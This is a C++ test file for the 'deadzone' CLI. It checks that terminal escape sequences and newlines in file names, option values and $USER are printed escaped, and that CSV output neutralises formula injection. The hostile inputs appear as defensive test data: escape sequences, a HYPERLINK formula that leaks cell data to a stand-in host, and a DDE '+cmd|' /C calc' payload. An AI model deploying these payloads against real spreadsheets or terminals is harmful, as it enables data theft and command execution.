// Terminal and log injection end to end: control characters in file names, operator codes and
// $USER reach the terminal only as visible escapes (docs/hardening.md), never as raw bytes.
#include "cli_support.hpp"

#include <doctest/doctest.h>

#include <cstdlib>
#include <filesystem>
#include <string>

using deadzone::test::run_deadzone;
using deadzone::test::TempDir;
namespace fs = std::filesystem;

namespace {

const std::string data_dir = DEADZONE_TEST_DATA;
const std::string hostile = std::string{DEADZONE_TEST_DATA} + "/hostile";

bool has_raw_control(const std::string& text) {
    for (const char c : text) {
        const auto u = static_cast<unsigned char>(c);
        if ((u < 0x20 && c != '\n') || u == 0x7F) {
            return true;
        }
    }
    return false;
}

std::size_t count_lines(const std::string& text) {
    std::size_t n = 0;
    for (const char c : text) {
        n += c == '\n' ? 1 : 0;
    }
    return n;
}

} // namespace

TEST_CASE("terminal: a file name with ESC[2J and a newline is printed escaped") {
    TempDir dir{"deadzone-term"};
    // The name is the attack; an unknown operator in the file (the tiny campaign has VTL and
    // MBF only) makes check print a problem naming it.
    const fs::path file = dir.path() / "st\x1b[2J\nforged.csv";
    fs::copy_file(hostile + "/term_file_name.csv", file);
    const auto result = run_deadzone({"check", "--campaign", data_dir + "/tiny/campaign.json",
                                      "--stations", file.string()});
    INFO(result.err);
    CHECK(result.exit_code == 1);
    CHECK_FALSE(has_raw_control(result.err));
    CHECK_FALSE(has_raw_control(result.out));
    CHECK(result.err.find("st\\x1b[2J\\nforged.csv") != std::string::npos);
}

TEST_CASE("terminal: a missing file with a hostile name fails with one escaped line") {
    TempDir dir{"deadzone-term"};
    const fs::path file = dir.path() / "gone\x1b[31m\rrow 9: ok.csv";
    const auto result = run_deadzone({"check", "--stations", file.string()});
    INFO(result.err);
    CHECK(result.exit_code == 1);
    CHECK_FALSE(has_raw_control(result.err));
    CHECK(result.err.find("gone\\x1b[31m\\rrow 9: ok.csv") != std::string::npos);
}

TEST_CASE("terminal: an operator code with ESC and OSC sequences is escaped in problems") {
    const auto result = run_deadzone({"check", "--campaign", data_dir + "/tiny/campaign.json",
                                      "--stations", hostile + "/term_operator_escape.csv"});
    INFO(result.err);
    CHECK(result.exit_code == 1);
    CHECK_FALSE(has_raw_control(result.err));
    CHECK(result.err.find("VTL\\x1b[2J\\x1b]0;pwned\\x07") != std::string::npos);
}

TEST_CASE("terminal: usage errors echo hostile option values escaped") {
    const auto result = run_deadzone({"analyze", data_dir + "/tiny", "--as-of", "2022\x1b[2J-01-01",
                                      "--out", "/nonexistent-deadzone-out"});
    INFO(result.err);
    CHECK(result.exit_code == 2);
    CHECK_FALSE(has_raw_control(result.err));
    CHECK(result.err.find("2022\\x1b[2J-01-01") != std::string::npos);
}

TEST_CASE("terminal: a newline in $USER cannot forge a row of 'history'") {
    TempDir dir{"deadzone-term"};
    const auto store = (dir.path() / "s.gpkg").string();
    const char* saved = std::getenv("USER");
    const std::string saved_user = saved ? saved : "";
    ::setenv("USER", "eve\n   9  2099-01-01T00:00:00Z  root\x1b[2J", 1);
    const auto init = run_deadzone({"init", store, "--campaign", data_dir + "/tiny/campaign.json"});
    const auto history = run_deadzone({"history", store});
    if (saved) {
        ::setenv("USER", saved_user.c_str(), 1);
    } else {
        ::unsetenv("USER");
    }
    INFO(init.err);
    REQUIRE(init.exit_code == 0);
    INFO(history.out);
    CHECK(history.exit_code == 0);
    CHECK_FALSE(has_raw_control(history.out));
    // Header plus the three uploads of init (campaign, villages, commitments): no forged row.
    CHECK(count_lines(history.out) == 4);
}

TEST_CASE("csv injection: hostile operator names and provinces reach progress.csv as text") {
    TempDir dir{"deadzone-csv"};
    const auto out = dir.path() / "out";
    const auto result = run_deadzone({"analyze", "--campaign", hostile + "/csv_formula_campaign.json",
                                      "--as-of", "2022-07-30", "--out", out.string(), "-q"});
    INFO(result.err);
    REQUIRE(result.exit_code == 0);
    const auto csv = deadzone::test::read_file(out / "progress.csv");
    for (const char* expected :
         {"\r\noperator,VTL,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"Viettel\"\")\",3,",
          "\r\noperator,MBF,'-2+3,3,", "\r\nprovince,'=1+2,'=1+2,1,", "\r\nprovince,'-5,'-5,1,",
          "\r\nprovince,'@SUM(A1:A9),'@SUM(A1:A9),1,", "\r\nprovince,'+cmd|' /C calc'!A0,'+cmd|' /C calc'!A0,1,"}) {
        CHECK_MESSAGE(csv.find(expected) != std::string::npos, expected);
    }
    for (const char* raw : {",=", ",+", ",@", ",\t"}) {
        CHECK_MESSAGE(csv.find(raw) == std::string::npos, raw);
    }
}
